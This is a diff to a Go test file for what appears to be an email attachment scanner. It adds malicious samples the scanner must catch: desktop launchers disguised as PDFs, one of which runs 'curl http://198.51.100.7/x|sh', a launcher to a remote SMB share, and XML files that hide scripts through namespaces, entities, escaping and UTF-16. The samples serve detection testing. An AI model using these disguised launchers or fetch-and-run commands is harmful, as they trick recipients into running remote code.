@@ -259,6 +259,10 @@ func bad(t testing.TB) map[string]struct {
 		"Internet shortcut":                {"a.url", "remote-shortcut", []byte("[InternetShortcut]\r\nURL=file://203.0.113.5@80/s/x.exe\r\n")},
 		"its icon":                         {"a.url", "remote-shortcut", []byte("[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\203.0.113.5\\s\\i.ico\r\n")},
 		"its program":                      {"a.url", "shortcut-command", []byte("[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n")},
+		"launcher that fetches":            {"CV.pdf.desktop", "shortcut-command", []byte("[Desktop Entry]\nType=Application\nName=CV.pdf\nExec=sh -c \"curl http://198.51.100.7/x|sh\"\n")},
+		"launcher under another name":      {"notes", "shortcut-command", []byte("# x\n[Desktop Entry]\nType=Application\nExec = /tmp/.x\n")},
+		"launcher shown as a document":     {"a.desktop", "shortcut-command", []byte("[Desktop Entry]\nName[de]=Rechnung.pdf\nExec=bash -c ./.run\n")},
+		"launcher of a share":              {"a.desktop", "remote-shortcut", []byte("[Desktop Entry]\nType=Link\nURL=smb://203.0.113.5/s\n")},
 		"library":                          {"a.library-ms", "remote-shortcut", []byte(`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\203.0.113.5\s</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`)},
 		"search connector":                 {"a.searchConnector-ms", "remote-shortcut", []byte(`<searchConnectorDescription><simpleLocation><url>https://evil.test/dav</url></simpleLocation></searchConnectorDescription>`)},
 		"SVG with a script":                {"a.svg", "svg-script", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)},
@@ -269,6 +273,14 @@ func bad(t testing.TB) map[string]struct {
 		"SVG in a namespace":               {"a.svg", "svg-script", []byte("<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></s:svg>")},
 		"SVG with an address":              {"a.svg", "svg-script", []byte("<svg><a xlink:href=\" java\nscript:go()\"/></svg>")},
 		"SVG with a page":                  {"a.svg", "svg-script", []byte(`<svg><foreignObject><h:iframe xmlns:h="x" src="https://evil.test"/></foreignObject></svg>`)},
+		"script in XML":                    {"a.xml", "svg-script", []byte(`<?xml version="1.0"?><report><title>Q3</title><script xmlns="http://www.w3.org/1999/xhtml">x()</script></report>`)},
+		"script in XML, by a prefix":       {"a.xml", "svg-script", []byte(`<report xmlns:h=' http://www.w3.org/1999/xhtml'><h:script>x()</h:script></report>`)},
+		"script in XML, escaped":           {"a.dat", "svg-script", []byte(`<report xmlns:h="http&#58;//www.w3.org/1999/xhtml"><h:script src="x"/></report>`)},
+		"script of pictures in XML":        {"a.xml", "svg-script", []byte(`<theme><script xmlns="http://www.w3.org/2000/svg">x()</script></theme>`)},
+		"script in XML by an entity":       {"a.xml", "svg-script", []byte(`<!DOCTYPE a [<!ENTITY x "<script xmlns='http://www.w3.org/1999/xhtml'>x()</script>">]><a>&x;</a>`)},
+		"script in XML, inside":            {"a.xml", "svg-script", []byte(`<a xmlns="urn:a"><b xmlns="http://www.w3.org/1999/xhtml"><c xmlns="urn:c"><d/></c><script/></b></a>`)},
+		"handler in XML":                   {"a.xml", "svg-script", []byte(`<a xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x" onerror="x()"/></a>`)},
+		"script in UTF-16 XML":             {"a.xml", "svg-script", utf16XML(`<a><script xmlns="http://www.w3.org/1999/xhtml">x()</script></a>`)},
 		"SVG by an entity":                 {"a.svg", "svg-script", []byte(`<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg>&x;</svg>`)},
 	}
 }
@@ -374,5 +386,29 @@ func TestScanEndsWithItsTime(t *testing.T) {
 	cancel()
 	if _, err := newScanner(t, DefaultConfig()).Scan(ctx, mailWith(t, "a.pdf", pdfOf("null"))); err == nil {
 		t.Error("no error")
+	}
+}
+
+// utf16XML is a document in UTF-16 with a byte order mark.
+func utf16XML(s string) []byte {
+	out := []byte{0xff, 0xfe}
+	for _, c := range []byte(s) {
+		out = append(out, c, 0)
+	}
+	return out
+}
+
+// TestHonestXML has elements of those names, or the namespace, but not both.
+func TestHonestXML(t *testing.T) {
+	for _, text := range []string{
+		`<project><script>build.sh</script><form name="a"/></project>`,
+		`<feed xmlns="http://www.w3.org/2005/Atom"><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>text <a href="http://x.test">x</a></p></div></content></feed>`,
+		`<office:document-content xmlns:office="urn:o" xmlns:form="urn:f" xmlns:script="urn:s" xmlns:xhtml="http://www.w3.org/1999/xhtml"><office:scripts/><form:form/><draw:object/></office:document-content>`,
+		`<feed xmlns="urn:a"><div xmlns="http://www.w3.org/1999/xhtml"><br/></div><object/><script/></feed>`,
+		`<invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><object/></invoice>`,
+	} {
+		if found := findings(t, "a.xml", []byte(text)); len(found) > 0 {
+			t.Errorf("%s: %v", text, found)
+		}
 	}
 }
